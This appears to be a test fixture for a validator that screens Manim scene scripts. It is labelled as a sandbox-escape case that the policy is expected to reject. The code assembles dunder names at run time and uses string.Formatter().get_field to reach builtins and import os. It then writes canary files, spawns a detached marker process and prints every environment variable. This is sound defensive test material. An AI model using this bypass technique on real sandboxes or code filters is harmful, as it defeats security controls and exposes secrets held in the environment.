# category: esc
# attack: static-policy bypass through string's format machinery: string.Formatter().get_field walks a "0.__init__.__globals__" path assembled at run time to a module's builtins, then __import__("os") writes canaries, starts a marker daemon and dumps os.environ
# expect: any
# policy: reject
import string

from manim import *

TARGETS = HOSTILE_TARGETS


class FormatGetField(Scene):
    def construct(self):
        d = "_" * 2
        fmt = string.Formatter()
        found = fmt.get_field("0." + d + "init" + d + "." + d + "globals" + d, [Scene], {})
        builtins = found[0][d + "builtins" + d]
        importer = builtins[d + "import" + d] if isinstance(builtins, dict) else None
        if importer is None:
            importer = fmt.get_field("0." + d + "import" + d, [builtins], {})[0]
        os_mod = importer("os")
        for t in TARGETS:
            try:
                with os_mod.fdopen(os_mod.open(t, os_mod.O_WRONLY | os_mod.O_CREAT, 438), "w") as f:
                    f.write("pwned")
            except OSError as exc:
                print("write", t, repr(exc)[:160])
        if os_mod.fork() == 0:
            os_mod.setsid()
            os_mod.execv("/bin/sleep", [HOSTILE_MARKER + "-format", "300"])
        print("ENV", dict(os_mod.environ))
        self.play(FadeIn(Square()), run_time=0.3)
